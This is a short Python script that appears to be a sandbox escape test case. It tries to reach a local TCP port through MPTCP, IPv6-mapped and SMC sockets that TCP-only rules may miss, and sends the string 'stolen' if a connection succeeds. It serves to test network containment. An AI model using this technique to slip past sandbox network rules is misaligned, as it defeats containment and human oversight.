# /// attack
# category = "network"
# kind = "stdio"
# success = "net:tcp"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Reaches a TCP port with MPTCP, IPv6-mapped and SMC sockets, which TCP rules may not cover."
# ///

import socket

IPPROTO_MPTCP, AF_SMC = 262, 43
port = int("{TCP_PORT}")
for family, protocol, address in (
    (socket.AF_INET, IPPROTO_MPTCP, ("127.0.0.1", port)),
    (socket.AF_INET6, IPPROTO_MPTCP, ("::ffff:127.0.0.1", port)),
    (socket.AF_INET6, socket.IPPROTO_TCP, ("::ffff:127.0.0.1", port)),
    (AF_SMC, 0, ("127.0.0.1", port)),
):
    try:
        with socket.socket(family, socket.SOCK_STREAM, protocol) as channel:
            channel.settimeout(2)
            channel.connect(address)
            channel.sendall(b"stolen")
    except OSError as error:
        print("blocked", error)
